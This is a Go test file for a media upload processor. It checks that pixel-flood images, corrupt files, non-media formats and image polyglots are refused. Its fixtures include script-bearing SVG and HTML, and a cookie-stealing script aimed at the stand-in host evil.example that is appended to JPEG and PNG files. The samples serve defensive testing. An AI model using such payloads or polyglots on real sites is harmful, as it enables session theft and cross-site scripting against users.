package media_test

import (
	"archive/zip"
	"bytes"
	"encoding/binary"
	"hash/crc32"
	"image/png"
	"testing"
	"time"

	"github.com/pluttra/pluttra/internal/media"
)

func crc(b []byte) uint32 { return crc32.ChecksumIEEE(b) }

// pngHeader is a PNG whose IHDR claims w by h, followed by a few bytes of
// nonsense image data: decoding its pixels would fail, so a refusal as too
// large shows the dimensions were checked first.
func pngHeader(w, h uint32) []byte {
	out := []byte("\x89PNG\r\n\x1a\n")
	chunk := func(typ string, data []byte) {
		c := binary.BigEndian.AppendUint32(nil, uint32(len(data)))
		c = append(append(c, typ...), data...)
		out = append(out, binary.BigEndian.AppendUint32(c, crc(c[4:]))...)
	}
	ihdr := binary.BigEndian.AppendUint32(nil, w)
	ihdr = binary.BigEndian.AppendUint32(ihdr, h)
	chunk("IHDR", append(ihdr, 8, 2, 0, 0, 0))
	chunk("IDAT", []byte("not deflate at all"))
	chunk("IEND", nil)
	return out
}

// jpegClaiming rewrites the size in a JPEG's SOF0 segment.
func jpegClaiming(t *testing.T, w, h uint16) []byte {
	data := encodeJPEG(t, quadrants(16, 16))
	i := bytes.Index(data, []byte{0xFF, 0xC0})
	if i < 0 {
		t.Fatal("no SOF0")
	}
	binary.BigEndian.PutUint16(data[i+5:], h)
	binary.BigEndian.PutUint16(data[i+7:], w)
	return data
}

func TestPixelFloodRefusedBeforeDecoding(t *testing.T) {
	t.Parallel()
	cases := map[string]struct {
		data   []byte
		limits media.Limits
	}{
		"PNG100000x100000":       {pngHeader(100000, 100000), media.Limits{}},
		"PNGOverMaxPixels":       {pngHeader(9000, 9000), media.Limits{}},
		"JPEG60000x60000":        {jpegClaiming(t, 60000, 60000), media.Limits{}},
		"JPEGOverAStricterLimit": {encodeJPEG(t, quadrants(64, 64)), media.Limits{MaxPixels: 1000}},
		"JPEGOverAStricterSide":  {encodeJPEG(t, quadrants(64, 16)), media.Limits{MaxSide: 32}},
	}
	for name, c := range cases {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			start := time.Now()
			_, dir, err := process(t, &media.Processor{Limits: c.limits}, c.data)
			wantCode(t, err, media.CodeTooLarge)
			wantEmptyDir(t, dir)
			if d := time.Since(start); d > time.Second {
				t.Fatalf("refusal took %v: pixels were decoded", d)
			}
		})
	}
}

func TestCorruptImages(t *testing.T) {
	t.Parallel()
	good := encodeJPEG(t, quadrants(200, 100))
	garbled := bytes.Clone(good)
	sos := bytes.LastIndex(garbled, []byte{0xFF, 0xDA})
	for i := sos + 20; i < len(garbled)-2; i++ {
		if garbled[i] == 0xFF {
			garbled[i] = 0x00
		}
	}
	garbledHuffman := bytes.Clone(good)
	dht := bytes.Index(garbledHuffman, []byte{0xFF, 0xC4})
	for i := dht + 5; i < dht+21; i++ {
		garbledHuffman[i] = 0xFF
	}
	cases := map[string][]byte{
		"TruncatedJPEG":        good[:len(good)/2],
		"JPEGWithoutEnd":       good[:len(good)-2],
		"JPEGBadHuffmanTables": garbledHuffman,
		"TruncatedPNG":         pngHeader(10, 10)[:40],
		"PNGWithBadData":       pngHeader(10, 10),
		"JustJPEGMagic":        {0xFF, 0xD8, 0xFF, 0xE0},
	}
	for name, data := range cases {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			_, dir, err := process(t, &media.Processor{}, data)
			wantCode(t, err, media.CodeCorrupt)
			wantEmptyDir(t, dir)
		})
	}
}

func TestNotMediaRefused(t *testing.T) {
	t.Parallel()
	var zipped bytes.Buffer
	zw := zip.NewWriter(&zipped)
	w, _ := zw.Create("a.txt")
	w.Write([]byte("hello"))
	zw.Close()
	cases := map[string][]byte{
		"SVG":        []byte(`<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>`),
		"SVGWithXML": []byte(`<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>`),
		"HTML":       []byte("<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"),
		"PDF":        []byte("%PDF-1.7\n1 0 obj <<>> endobj\n%%EOF"),
		"ZIP":        zipped.Bytes(),
		"ELF":        []byte("\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00"),
		"Empty":      {},
	}
	for name, data := range cases {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			_, dir, err := process(t, &media.Processor{}, data)
			wantCode(t, err, media.CodeUnsupported)
			wantEmptyDir(t, dir)
		})
	}
}

func TestPolyglots(t *testing.T) {
	t.Parallel()
	photo := encodeJPEG(t, quadrants(64, 48), exifAPP1(binary.LittleEndian, 1))
	var zipped bytes.Buffer
	zw := zip.NewWriter(&zipped)
	w, _ := zw.Create("payload.html")
	w.Write([]byte("<script>alert(1)</script>"))
	zw.Close()
	html := []byte("<html><body><script>document.location='https://evil.example/'+document.cookie</script></body></html>")
	pngFile := pngOf(t, 8, 8)
	// A motion photo's video: ftyp, then a box of media data.
	mp4 := box("ftyp", []byte("isom\x00\x00\x02\x00isomiso2mp41"))
	mp4 = append(mp4, box("mdat", bytes.Repeat([]byte{0x42}, 3000))...)
	zipInVideo := append(box("ftyp", []byte("isom\x00\x00\x02\x00isom")), box("mdat", zipped.Bytes())...)
	cat := func(parts ...[]byte) []byte { return bytes.Join(parts, nil) }

	refused := map[string][]byte{
		"JPEGThenZIP":         cat(photo, zipped.Bytes()),
		"JPEGThenHTML":        cat(photo, html),
		"PNGThenHTML":         cat(pngFile, html),
		"PNGThenZIP":          cat(pngFile, zipped.Bytes()),
		"JPEGThenZIPInMP4":    cat(photo, zipInVideo),
		"JPEGThenFakeSEFT":    cat(photo, html, []byte("\x10\x00\x00\x00SEFT")),
		"JPEGThenJPEGThenJS":  cat(photo, photo, html),
		"JPEGThenZerosThenJS": cat(photo, make([]byte, 1<<20), html),
	}
	for name, data := range refused {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			_, dir, err := process(t, &media.Processor{}, data)
			wantCode(t, err, media.CodePolyglot)
			wantEmptyDir(t, dir)
		})
	}
	allowed := map[string][]byte{
		"JPEGPadded":               cat(photo, make([]byte, 300)),
		"JPEGThenAFewBytes":        cat(photo, []byte("\r\n")),
		"JPEGThenGainMapJPEG":      cat(photo, encodeJPEG(t, quadrants(16, 16))),
		"JPEGThenMotionPhotoVideo": cat(photo, mp4),
		"JPEGThenSamsungTrailer":   cat(photo, samsungTrailer()),
		"UltraHDRSamsung":          cat(photo, make([]byte, 7), encodeJPEG(t, quadrants(16, 16)), samsungTrailer()),
		"PaddedMotionPhoto":        cat(photo, make([]byte, 5), mp4),
		"PNGPadded":                cat(pngFile, make([]byte, 64)),
	}
	for name, data := range allowed {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			if _, _, err := process(t, &media.Processor{}, data); err != nil {
				t.Fatal(err)
			}
		})
	}
}

// box frames an ISO base media box.
func box(typ string, payload []byte) []byte {
	b := binary.BigEndian.AppendUint32(nil, uint32(8+len(payload)))
	return append(append(b, typ...), payload...)
}

// samsungTrailer is the trailer Galaxy phones append: a data block
// (name, then value), then the SEFH directory listing it, its length and
// "SEFT".
func samsungTrailer() []byte {
	le := binary.LittleEndian
	name := "Image_UTC_Data"
	block := le.AppendUint32([]byte{0, 0, 0x01, 0x0a}, uint32(len(name)))
	block = append(append(block, name...), "1700000000000"...)
	dir := []byte("SEFH")
	dir = le.AppendUint32(dir, 106)
	dir = le.AppendUint32(dir, 1)
	dir = append(dir, 0, 0, 0x01, 0x0a)
	dir = le.AppendUint32(dir, uint32(len(block))) // offset back from the directory
	dir = le.AppendUint32(dir, uint32(len(block)))
	out := append(block, dir...)
	out = le.AppendUint32(out, uint32(len(dir)))
	return append(out, "SEFT"...)
}

// pngOf encodes the quadrant picture as PNG.
func pngOf(t *testing.T, w, h int) []byte {
	var b bytes.Buffer
	if err := png.Encode(&b, quadrants(w, h)); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}
